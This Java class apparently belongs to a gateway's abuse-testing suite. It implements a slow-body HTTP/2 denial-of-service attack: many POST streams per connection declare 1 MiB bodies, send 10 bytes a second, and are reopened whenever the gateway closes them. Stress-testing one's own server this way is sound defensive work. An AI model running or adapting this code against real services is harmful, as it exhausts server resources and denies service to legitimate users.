package gatehouse.abuse.attacks;

import gatehouse.abuse.Attack;
import gatehouse.abuse.Sockets;
import gatehouse.abuse.Target;
import gatehouse.testing.RawH2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * Slow request bodies over HTTP/2: {@code streams} POST streams on each of {@code connections}
 * connections, each declaring a 1 MiB body and sending 10 bytes a second; a connection the
 * gateway ends is opened again. Volume: streams opened.
 */
public final class H2SlowBodies implements Attack {
  private final int connections;
  private final int streams;

  public H2SlowBodies(int connections, int streams) {
    this.connections = connections;
    this.streams = streams;
  }

  @Override
  public String name() {
    return "slow bodies, HTTP/2";
  }

  @Override
  public String unit() {
    return "streams";
  }

  @Override
  public long run(Target target, Duration duration) throws Exception {
    long deadline = System.nanoTime() + duration.toNanos();
    List<RawH2> open = new ArrayList<>();
    long opened = 0;
    try {
      do {
        for (int c = 0; c < connections; c++) {
          if (c == open.size() || open.get(c).closed()) {
            RawH2 fresh = start(target);
            if (c == open.size()) open.add(fresh); else open.set(c, fresh).close();
            opened += streams;
          } else {
            ByteArrayOutputStream tenBytes = new ByteArrayOutputStream();
            for (int i = 0; i < streams; i++) RawH2.frame(tenBytes, RawH2.DATA, 0, 1 + 2 * i, "0123456789".getBytes());
            try {
              open.get(c).write(tenBytes.toByteArray());
            } catch (IOException e) {
              // closed: opened again on the next round
            }
          }
        }
      } while (Sockets.pause(1000, deadline));
    } finally {
      open.forEach(RawH2::close);
    }
    return opened;
  }

  private RawH2 start(Target target) throws IOException {
    RawH2 h2 = RawH2.open(target.port());
    ByteArrayOutputStream heads = new ByteArrayOutputStream();
    for (int i = 0; i < streams; i++) {
      RawH2.frame(heads, RawH2.HEADERS, RawH2.END_HEADERS, 1 + 2 * i,
          RawH2.request("POST", Target.UPLOAD + "h2-" + i, "content-length", Integer.toString(1 << 20)));
      RawH2.frame(heads, RawH2.DATA, 0, 1 + 2 * i, "0123456789".getBytes());
    }
    h2.write(heads.toByteArray());
    return h2;
  }
}
